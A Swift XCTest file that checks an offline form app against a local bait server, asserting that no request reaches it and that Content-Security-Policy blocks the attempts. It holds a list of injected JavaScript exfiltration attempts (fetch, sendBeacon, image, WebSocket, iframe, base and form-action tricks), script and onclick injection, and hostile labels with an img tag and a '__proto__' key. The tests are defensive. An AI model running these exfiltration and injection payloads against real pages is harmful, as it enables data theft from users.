import EqualityForms
import EqualityModel
import Foundation
import TestSupport
import XCTest

/// Nothing leaves the form but the file that its user saves.
final class OfflineTests: XCTestCase {
  func testAServerThatTheFormIsTemptedToReachIsNeverReached() throws {
    let server = try BaitServer.start(for: self)
    let bait = server.address + "/bait"
    let form = try FormDriver(Sample.hostile(bait: bait), for: self)
    XCTAssertEqual(try form.browser.evaluate("window.violations") as? [String], [])

    try form.act("next")
    try form.tick("q1-2")
    for attempt in Self.attempts(bait) { try form.browser.evaluate(attempt) }
    try form.act("next")
    try form.act("save")
    _ = try form.savedFiles()

    XCTAssertEqual(try server.requests(), [])
    let refused = try form.browser.evaluate("window.violations") as? [String] ?? []
    XCTAssertTrue(Set(refused).isSuperset(of: ["connect-src", "img-src"]), "\(refused)")
    XCTAssertTrue(Set(refused).isSuperset(of: ["form-action", "base-uri"]), "\(refused)")
  }

  func testTheServerWouldHaveSeenIt() throws {
    let server = try BaitServer.start(for: self)
    let browser = try Browser.start(for: self)
    try browser.evaluate("fetch('\(server.address)/bait', { mode: 'no-cors' })")
    XCTAssertTrue(try server.requests().contains { $0.contains("GET /bait") })
  }

  func testAScriptThatIsPutIntoThePageDoesNotRun() throws {
    let form = try FormDriver(Sample.short(), for: self)

    try form.browser.evaluate(
      """
      const script = document.createElement("script");
      script.textContent = "window.injected = 1";
      document.body.append(script);
      const button = document.querySelector(".current button");
      button.setAttribute("onclick", "window.injected = 1");
      button.click();
      """)

    XCTAssertTrue(try form.holds("window.injected === undefined"))
    let refused = try form.browser.evaluate("window.violations") as? [String] ?? []
    XCTAssertTrue(
      Set(refused).isSuperset(of: ["script-src-elem", "script-src-attr"]), "\(refused)")
  }

  func testHostileTextsAreShownAndHostileCodesComeBackAsTheyWere() throws {
    let form = try FormDriver(Sample.hostile(), for: self)
    try form.act("next")
    try form.tick("q1-1", "q1-2", "q2-1")

    XCTAssertTrue(try form.holds("document.scripts.length === 1 && !document.images.length"))
    XCTAssertTrue(try form.holds("window.injected === undefined"))
    let shown = try form.text("document.querySelector('label[for=q1-1]').textContent")
    XCTAssertTrue(shown.contains("<img src=\"http://127.0.0.1:9/bait\""), shown)
    try form.act("next")
    try form.act("save")
    let response = try form.savedResponse()
    XCTAssertEqual(response["wave"] as? String, Sample.hostileCode)
    XCTAssertEqual(response["unit"] as? String, Sample.hostileCode)
    XCTAssertEqual(
      response["answers"] as? NSDictionary,
      [Sample.hostileCode: [Sample.hostileCode, "b"], "__proto__": "c"])
  }

  /// The ways that a page has of reaching a server.
  private static func attempts(_ bait: String) -> [String] {
    [
      "fetch('\(bait)').catch(() => 0)", "void navigator.sendBeacon('\(bait)', 'svar')",
      "new Promise((done) => { const image = new Image(); image.onerror = done; image.src = '\(bait)' })",
      "try { new WebSocket('\(bait)'.replace('http', 'ws')) } catch { }",
      "void document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '\(bait)' }))",
      "void document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '\(bait)' }))",
      "void document.body.append(Object.assign(document.createElement('iframe'), { src: '\(bait)' }))",
      "void document.head.append(Object.assign(document.createElement('base'), { href: '\(bait)' }))",
      "document.getElementById('form').action = '\(bait)'; HTMLFormElement.prototype.submit.call(document.getElementById('form'))",
    ]
  }
}
